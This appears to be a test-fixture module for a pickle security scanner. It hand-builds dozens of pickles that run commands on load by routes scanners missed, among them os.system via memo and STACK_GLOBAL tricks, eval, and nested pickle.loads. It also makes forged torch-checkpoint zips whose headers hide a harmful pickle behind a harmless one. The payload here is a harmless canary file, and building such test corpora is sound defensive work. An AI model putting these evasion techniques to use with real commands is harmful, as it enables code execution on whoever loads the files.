"""Pickles that do something when they are loaded, by every way that scanners of pickles were found to miss.

Made of opcodes by hand, for Python's own pickler would not write most of them. `{canary}` in a command becomes a path:
whoever runs the pickle creates that file. Each is given as what comes after PROTO and before STOP.
"""

import io
import os
import pickle
import struct
import subprocess
import sys
import zipfile

PROTO = b"\x80\x04"


def text(value):
    """SHORT_BINUNICODE or BINUNICODE."""
    raw = value.encode()
    return b"\x8c" + bytes([len(raw)]) + raw if len(raw) < 256 else b"X" + struct.pack("<I", len(raw)) + raw


def name(module, attribute):
    """GLOBAL."""
    return f"c{module}\n{attribute}\n".encode()


def stacked(module, attribute):
    """STACK_GLOBAL, which takes both names from the stack and dots in the second."""
    return text(module) + text(attribute) + b"\x93"


def call(function, *arguments):
    """REDUCE of a tuple."""
    return function + b"(" + b"".join(arguments) + b"tR"


def touch(canary):
    return text(f"touch {canary}")


def python(canary):
    return text(f"__import__('os').system('touch {canary}')")


def tricks(canary):
    """Name, opcodes, what must be named, whether Python's own loader runs it as it stands.

    What names nothing but allowed things (None) is no danger to say of, but must not load either.
    """
    command, code = touch(canary), python(canary)
    system = name("os", "system")
    yield "GLOBAL os.system", call(system, command), "os.system", True
    yield "GLOBAL posix.system", call(name("posix", "system"), command), "posix.system", True
    yield "GLOBAL nt.system", call(name("nt", "system"), command), "nt.system", False
    yield "eval", call(name("builtins", "eval"), code), "eval", True
    yield "exec of Python 2's name", b"\x80\x02" + call(name("__builtin__", "eval"), code), "eval", True
    yield "subprocess", call(name("subprocess", "getoutput"), command), "subprocess.getoutput", True
    yield "STACK_GLOBAL", call(stacked("os", "system"), command), "os.system", True
    memo = text("os") + b"\x940" + text("system") + b"\x940" + b"h\x00h\x01\x93"
    yield "STACK_GLOBAL of names from the memo", call(memo, command), "os.system", True
    put = text("os") + b"r\xff\xff\x00\x000" + b"j\xff\xff\x00\x00" + text("system") + b"\x93"
    yield "STACK_GLOBAL of names from a far memo", call(put, command), "os.system", True
    yield "a dotted name below an allowed module", call(stacked("collections", "abc.sys.modules.__class__"), b""), "collections", True
    yield "dots below torch", call(stacked("torch", "serialization.os.system"), command), "torch", False
    yield "dots below torch._utils", call(stacked("torch._utils", "sys.modules"), b""), "torch._utils", False
    yield "an allowed class's own dictionary", call(stacked("collections", "OrderedDict.__init__"), text("x")), "OrderedDict.__init__", False
    yield "INST", b"(" + command + b"ios\nsystem\n", "os.system", True
    yield "OBJ", b"(" + system + command + b"o", "os.system", True
    yield "NEWOBJ", name("bdb", "Bdb") + b")\x81", "bdb.Bdb", True
    yield "NEWOBJ_EX", name("subprocess", "Popen") + b"(" + command + b"t}\x92", "subprocess.Popen", False
    yield "BUILD with a state that is no dict", name("collections", "OrderedDict") + b")R" + text("state") + b"b", None, False
    yield "EXT1", b"\x82\x01)R", "", False
    yield "EXT4", b"\x84\x00\x00\x01\x00)R", "", False
    yield "getattr", call(call(name("builtins", "getattr"), call(name("importlib", "import_module"), text("os")), text("system")),
                          command), "builtins.getattr", True
    yield "operator.attrgetter", call(call(name("operator", "attrgetter"), text("system")),
                                      call(name("builtins", "__import__"), text("os"))), "operator.attrgetter", False
    yield "functools.partial", call(call(name("functools", "partial"), system, command)), "functools.partial", True
    yield "runpy", call(name("runpy", "_run_code"), code, b"}"), "runpy._run_code", True
    yield "timeit", call(name("timeit", "timeit"), code, text("pass"), name("time", "time"), b"K\x01"), "timeit.timeit", True
    yield "cProfile", call(name("cProfile", "run"), code), "cProfile.run", True
    yield "pickle in a pickle", call(name("pickle", "loads"), call(name("_codecs", "encode"),
          text((b"cos\nsystem\n(" + f"S'touch {canary}'\n".encode() + b"tR.").decode()), text("latin1"))), "pickle.loads", True
    yield "numpy's loader", call(name("numpy", "load"), text("x.npy")), "numpy.load", False
    yield "torch's own loader", call(name("torch", "load"), text("x.pt")), "torch.load", False
    yield "torch.hub", call(name("torch.hub", "load"), text("x")), "torch.hub.load", False
    yield "pip", call(name("pip", "main"), b"(" + text("--version") + b"l"), "pip.main", False
    yield "webbrowser", call(name("webbrowser", "open"), text("file:///dev/null")), "webbrowser.open", False
    yield "pty", call(name("pty", "spawn"), text("/bin/true")), "pty.spawn", False
    yield "sys.modules", call(name("sys", "setrecursionlimit"), b"M\xe8\x03"), "sys.setrecursionlimit", False
    yield "run, then a broken opcode", call(system, command) + b"\xff\xff", "os.system", True
    yield "run, then cut off", call(system, command) + b"X\xff\xff\x00\x00", "os.system", True
    yield "run, then popped off the stack", call(system, command) + b"0}", "os.system", True
    yield "run as a key of a dict", b"}" + call(system, command) + b"K\x01s", "os.system", True
    yield "a name that nothing calls", system, "os.system", False


def executed(raw):
    """Has Python's own loader load it, in a process of its own."""
    code = "import pickle, sys; pickle.load(sys.stdin.buffer)"
    subprocess.run([sys.executable, "-c", code], input=raw, capture_output=True, timeout=60)


def as_zip(path, raw):
    """A checkpoint as torch writes it, with this pickle."""
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("archive/data.pkl", raw)
        archive.writestr("archive/byteorder", "little")
        archive.writestr("archive/data/0", b"\0" * 64)
        archive.writestr("archive/version", "3\n")
    return path


def as_stream(path, raw):
    """A checkpoint of the old layout, with this pickle."""
    head = [0x1950A86A20F9469CFC6C, 1001, {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}]
    path.write_bytes(b"".join(pickle.dumps(value, 2) for value in head) + raw + pickle.dumps([], 2))
    return path


def as_bare(path, raw):
    """Nothing but the pickle."""
    path.write_bytes(raw)
    return path


def two_indices(path, harmless, harmful):
    """Two entries `data.pkl`: which of them is loaded depends on the program."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("archive/data.pkl", harmless)
        archive.writestr("archive/datA.pkl", harmful)
        archive.writestr("archive/version", "3\n")
    path.write_bytes(file.getvalue().replace(b"archive/datA.pkl", b"archive/data.pkl"))
    return path


def lying_local_name(path, harmless, harmful):
    """The local header names the harmful pickle `data.pkl`, the central directory the harmless one."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("archive/data.pkl", harmful)
        archive.writestr("archive/skip.pkl", harmless)
        archive.writestr("archive/version", "3\n")
    raw = file.getvalue()
    at = raw.index(b"PK\x01\x02")
    central = raw[at:].replace(b"data.pkl", b"####").replace(b"skip.pkl", b"data.pkl").replace(b"####", b"skip.pkl")
    path.write_bytes(raw[:at] + central)
    return path


def remove(path):
    if os.path.exists(path):
        os.unlink(path)
